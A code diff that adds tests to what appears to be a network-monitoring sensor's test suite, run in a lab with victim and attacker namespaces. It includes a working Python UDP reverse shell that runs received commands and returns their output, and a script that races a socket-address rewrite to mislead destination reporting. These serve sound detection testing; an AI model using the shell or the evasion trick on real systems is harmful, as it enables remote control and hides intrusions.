@@ -488,3 +488,73 @@ def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
     need("socat")
     alert = reverse(sensorlab, netlab, f"python3 -c \"{MEMFD_SOCAT}\"", signal="tunnel_tool")
     assert "fileless_exec" in alert["chainwatch"]["signals"], alert["chainwatch"]["signals"]
+
+
+# ------------------------------------------------------------------ peers as the kernel holds them
+
+UDP_SHELL = ("import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
+             "a=('{host}',{port});s.sendto(b'hi',a);c,_=s.recvfrom(4096);"
+             "s.sendto(subprocess.run(c.decode(),shell=True,capture_output=True).stdout,a)")
+
+
+def test_udp_shell_with_sendto_only(sensorlab, netlab) -> None:
+    """A UDP shell that never connects (sendto/recvfrom) alerts with its destination."""
+    port = next(_ports)
+    host = netlab.attacker_ip4
+    listener = netlab.listen_udp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))", duration=12,
+                                 max_datagrams=2)
+    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
+    command, token = tagged(f"python3 -c \"{UDP_SHELL.format(host=host, port=port)}\"")
+    netlab.run(netlab.victim_ns, ["timeout", "10", "bash", "-c", command], timeout=15)
+    assert b"cw-42" in listener.wait(timeout=15)
+    sends = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=emark, timeout=10)
+    assert len(sends) == 1 and sends[0].transport == "udp" and sends[0].daddr == host  # once per destination
+    groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
+    assert len(groups) == 1
+    hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
+    assert hit and hit[-1]["destination"] == {"ip": host, "port": port}
+    assert hit[-1]["network"]["transport"] == "udp"
+    record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})
+
+
+RACE = """
+import ctypes, socket, struct, sys, threading
+libc = ctypes.CDLL(None, use_errno=True)
+real, decoy, port, decoy_port = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
+def sin(ip, p):
+    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
+buf = ctypes.create_string_buffer(sin(real, port), 16)
+stop = False
+def flip():
+    a, b = sin(decoy, decoy_port), sin(real, port)
+    while not stop:
+        ctypes.memmove(buf, a, 16)
+        ctypes.memmove(buf, b, 16)
+t = threading.Thread(target=flip); t.start()
+peers = []
+for _ in range(40):
+    s = socket.socket()  # blocking: a timeout would make the fd non-blocking and connect return EINPROGRESS
+    if libc.connect(s.fileno(), buf, 16) == 0:
+        peers.append("%s:%d" % s.getpeername())
+    s.close()
+stop = True; t.join()
+print(" ".join(peers))
+"""
+
+
+def test_racing_sockaddr_rewrite_does_not_change_the_destination(sensorlab, netlab) -> None:
+    """A thread rewriting the sockaddr while connect runs: every reported destination is the socket's real peer."""
+    host = netlab.attacker_ip4
+    port, decoy_port = next(_ports), next(_ports)
+    netlab.listen_tcp(netlab.attacker_ns, port, duration=20, max_conns=40)
+    netlab.listen_tcp(netlab.attacker_ns, decoy_port, duration=20, max_conns=40)
+    mark = sensorlab.mark()
+    res = netlab.run(netlab.victim_ns, ["timeout", "15", sys.executable, "-c", RACE, host, host, str(port),
+                                        str(decoy_port)], timeout=20)
+    peers = (res.stdout or b"").decode().split()
+    assert peers, res
+    want = {port: peers.count(f"{host}:{port}"), decoy_port: peers.count(f"{host}:{decoy_port}")}
+    seen = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport in want and e.result == 0, since=mark,
+                              count=len(peers), timeout=10)
+    got = {p: sum(1 for e in seen if e.dport == p) for p in want}
+    assert got == want  # the kernel's peer for every connect, never the buffer's other value
